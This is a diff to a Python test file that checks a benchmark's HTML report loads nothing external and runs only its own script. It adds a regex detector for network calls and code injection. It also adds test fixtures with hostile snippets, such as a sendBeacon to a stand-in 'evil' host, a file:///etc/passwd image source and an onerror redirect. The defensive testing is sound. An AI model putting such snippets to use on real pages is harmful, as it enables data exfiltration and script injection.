@@ -1,5 +1,6 @@
-"""The report never references anything outside itself, and escapes every
-string it did not write itself.
+"""The report never references anything outside itself, runs no code but its
+own inline script (the package's templates/report.js: a variant picker and
+sortable tables), and escapes every string it did not write itself.
 
 Which strings from outside can reach report/index.html?  From the config:
 none can carry markup -- every string the schema allows is an enum value or
@@ -19,9 +20,11 @@ import json
 import re
 import shutil
 import urllib.parse
+from pathlib import Path
 
 import pytest
 
+from shortcutbench.analysis import render
 from shortcutbench.core.config import ConfigError, validate_config
 
 from .helpers import SCHEMA_PATH, run, schema, workflow_config
@@ -34,6 +37,20 @@ REFERENCE_ATTRIBUTES = {"src", "href", "srcset", "action", "formaction", "data",
                         "background", "xlink:href", "manifest", "ping", "cite", "longdesc",
                         "usemap", "codebase", "archive", "lowsrc", "dynsrc"}
 CSS_REFERENCE = re.compile(r"""url\(\s*['"]?([^'")]*)|@import\s+['"]?([^'";\s]+)""", re.I)
+# What in inline code (a <script> or an on... attribute) loads, sends or
+# points at something, or makes code or markup from strings: network calls,
+# navigation, markup and attributes that load, a string that starts with a
+# scheme or '//', elements other than plain ones created.  A pattern cannot
+# follow obfuscated code, so the report test also pins the page's one script
+# to the package's own report.js.
+CODE_REFERENCE = re.compile(
+    r"""\b(fetch|XMLHttpRequest|WebSocket|EventSource|sendBeacon|importScripts|import|"""
+    r"""Worker|SharedWorker|serviceWorker|RTCPeerConnection|location|open|write|writeln|"""
+    r"""eval|Function|innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|"""
+    r"""srcdoc|src|href|srcset|action|formAction|poster|background|cookie)\b"""
+    r"""|\bcreateElement(?:NS)?\s*\(\s*(?!['"](?:button|span|div|option)['"])[^)]*"""
+    r"""|['"`]\s*(?:[a-z][a-z0-9+.-]*:|//)[^'"`]*|url\(""")
+REPORT_JS = (Path(render.__file__).with_name("templates") / "report.js").read_text()
 
 
 class References(html.parser.HTMLParser):
@@ -43,13 +60,16 @@ class References(html.parser.HTMLParser):
     def __init__(self):
         super().__init__(convert_charrefs=True)
         self.found = []  # (where, value)
-        self._in_style = False
+        self.code = []  # (where, inline code): <script> bodies, on... attributes
+        self._in_style = self._in_script = False
 
     def handle_starttag(self, tag, attrs):
         for name, value in attrs:
             if value is None:
                 continue
-            if name in REFERENCE_ATTRIBUTES:
+            if name.startswith("on"):
+                self.code.append((f"<{tag} {name}>", value))
+            elif name in REFERENCE_ATTRIBUTES:
                 values = [v.strip().split(" ")[0] for v in value.split(",")] \
                     if name == "srcset" else [value]
                 self.found += [(f"<{tag} {name}>", v) for v in values]
@@ -58,27 +78,38 @@ class References(html.parser.HTMLParser):
             elif tag == "meta" and name == "content" and "url=" in value.lower():
                 self.found.append(("<meta refresh>", value.lower().split("url=", 1)[1]))
         self._in_style = tag == "style"
+        self._in_script = tag == "script"
+        if self._in_script:
+            self.code.append(("<script>", ""))
 
-    handle_startendtag = handle_starttag
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+        self._in_style = self._in_script = False
 
     def handle_endtag(self, tag):
-        self._in_style = False
+        self._in_style = self._in_script = False
 
     def handle_data(self, data):
         if self._in_style:
             self._css("<style>", data)
+        elif self._in_script:
+            where, code = self.code[-1]
+            self.code[-1] = (where, code + data)
 
     def _css(self, where, text):
         for match in CSS_REFERENCE.finditer(text):
             self.found.append((where, (match.group(1) or match.group(2) or "").strip()))
 
 
-def external_references(document, depth=0):
-    """The references of `document` that leave it: anything but a fragment
-    (#id) or a data: URI; data: URIs holding SVG or HTML are searched too."""
+def scan(document, depth=0):
+    """(references that leave `document`, how many were checked, its inline
+    code), data: URIs holding SVG or HTML searched too.  A reference leaves
+    unless it is a fragment (#id) or a data: URI; in inline code, whatever
+    CODE_REFERENCE finds does."""
     parser = References()
     parser.feed(document)
-    outside, checked = [], 0
+    parser.close()
+    outside, checked, code = [], 0, list(parser.code)
     for where, value in parser.found:
         checked += 1
         if value.startswith("#") or value == "":
@@ -88,12 +119,36 @@ def external_references(document, depth=0):
             if ("svg" in header or "html" in header) and depth < 3:
                 inner = (base64.b64decode(body).decode("utf-8", "replace")
                          if header.endswith(";base64") else urllib.parse.unquote(body))
-                found, n = external_references(inner, depth + 1)
+                found, n, inner_code = scan(inner, depth + 1)
                 outside += [(f"{where} -> {w}", v) for w, v in found]
                 checked += n
+                code += [(f"{where} -> {w}", c) for w, c in inner_code]
             continue
         outside.append((where, value))
+    for where, text in parser.code:
+        checked += 1
+        outside += [(where, match.group(0)) for match in CODE_REFERENCE.finditer(text)]
+    return outside, checked, code
+
+
+def external_references(document):
+    """The references of `document` that leave it, and how many were checked."""
+    outside, checked, _ = scan(document)
     return outside, checked
+
+
+def inline_code(document):
+    """(where, code) of every script and on... attribute in `document` and
+    the documents its data: URIs hold."""
+    return scan(document)[2]
+
+
+def assert_only_its_own_script(page):
+    """The page runs one piece of code: the package's report.js, inline."""
+    code = inline_code(page)
+    assert [where for where, _ in code] == ["<script>"], [where for where, _ in code]
+    assert code[0][1].strip() == REPORT_JS.strip(), "the page's script is not report.js"
+    assert page.lower().count("<script") == 1
 
 
 def test_the_scanner_finds_what_it_must():
@@ -105,13 +160,24 @@ def test_the_scanner_finds_what_it_must():
       <body><script src="app.js"></script><img src="file:///etc/passwd">
       <a href="report2.html">x</a><img srcset="a.png 1x, data:image/png;base64,AA 2x">
       <div style="background-image:url(http://x)"></div>
-      <img src="data:image/svg+xml;base64,{svg}"><a href="#ok">ok</a></body></html>"""
+      <img src="data:image/svg+xml;base64,{svg}"><a href="#ok">ok</a>
+      <script>var u = "https://evil/c"; navigator.sendBeacon(u, 1);</script>
+      <script>new Image().src = "x";</script>
+      <script>document.body.appendChild(document.createElement("iframe"));</script>
+      <script>import("./m.js");</script><img alt="" onerror="location = u">
+      <script>document.getElementById("t").innerHTML = "<img>";</script>
+      </body></html>"""
     found, _ = external_references(page)
     values = [v for _, v in found]
     for expected in ("https://cdn/x.css", "//evil/a.png", "x.css", "http://x", "app.js",
-                     "file:///etc/passwd", "report2.html", "a.png", "http://x/y.png"):
+                     "file:///etc/passwd", "report2.html", "a.png", "http://x/y.png",
+                     '"https://evil/c', "sendBeacon", "src", 'createElement("iframe"',
+                     "import", "location", "innerHTML"):
         assert expected in values, expected
     assert "#ok" not in values
+    # the page's own script is plain DOM work: nothing in it is found
+    assert external_references(f"<script>\n{REPORT_JS}</script>")[0] == []
+    assert [w for w, _ in inline_code(page)] == ["<script>"] * 5 + ["<img onerror>", "<script>"]
 
 
 @pytest.mark.slow
@@ -120,7 +186,7 @@ def test_the_report_references_nothing_outside_itself(reference, counts):
     outside, checked = external_references(page)
     assert outside == [], outside
     assert checked > 0
-    assert "<script" not in page.lower()  # and runs no code
+    assert_only_its_own_script(page)  # and runs no code but report.js
     counts.add("report", references_checked=checked, external_references=len(outside))
 
 
@@ -192,7 +258,8 @@ def inject(value):
 
 
 def assert_escaped(page, least):
-    assert PAYLOAD not in page and "<script" not in page.lower()
+    assert PAYLOAD not in page
+    assert_only_its_own_script(page)  # no other <script>, raw
     escaped = sum(page.count(form) for form in ESCAPED)
     assert escaped >= least, f"only {escaped} escaped payloads in the page"
     return escaped
@@ -224,8 +291,6 @@ def test_markup_in_the_machine_files_renders_as_text(reference, tmp_path, counts
 def test_markup_in_every_provenance_string_renders_as_text(reference, counts):
     """On the renderer: every string of the provenance -- config, git
     subject, hosts, versions -- carries `<script>`."""
-    from shortcutbench.analysis import render
-
     results = reference.workdir / "results"
     tables = json.loads((results / "tables.json").read_text())
     provenance = inject(json.loads((reference.workdir / "report" / "provenance.json").read_text()))
